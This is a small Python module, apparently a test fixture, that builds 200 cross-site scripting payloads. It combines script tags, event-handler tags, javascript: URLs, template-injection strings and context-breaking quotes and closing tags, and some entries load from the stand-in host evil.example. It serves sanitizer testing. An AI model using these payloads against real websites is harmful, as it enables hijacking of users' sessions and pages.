"""Two hundred texts that would run a script, or load a picture, wherever they became markup."""

from collections.abc import Iterator
from itertools import islice, product

CDN = "https://cdn.shop.example"
RUN = "window.hacked=1"
WAYS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>x</a>",
    "<form action=javascript:{run}>",
    "<template><img src=x onerror={run}></template>",
    "<img srcset='x' onerror={run}>",
    "<link rel=stylesheet href={cdn}/x onload={run}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//evil.example'</style>",
    "<p style=background:url(//evil.example/x)>x",
    "<img src=//evil.example/x.png>",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
)
BREAKS = ("{way}", '"{way}', "'>{way}", '"><{way}<!--', "</textarea></style></title>{way}",
          "\\\"{way}//", "&lt;{way}&#x3c;", "\u2028{way}\x00")  # fmt: skip


def payloads() -> Iterator[str]:
    """Two hundred texts."""
    for way, around in islice(product(WAYS, BREAKS), 200):
        yield around.format(way=way.format(run=RUN, cdn=CDN))
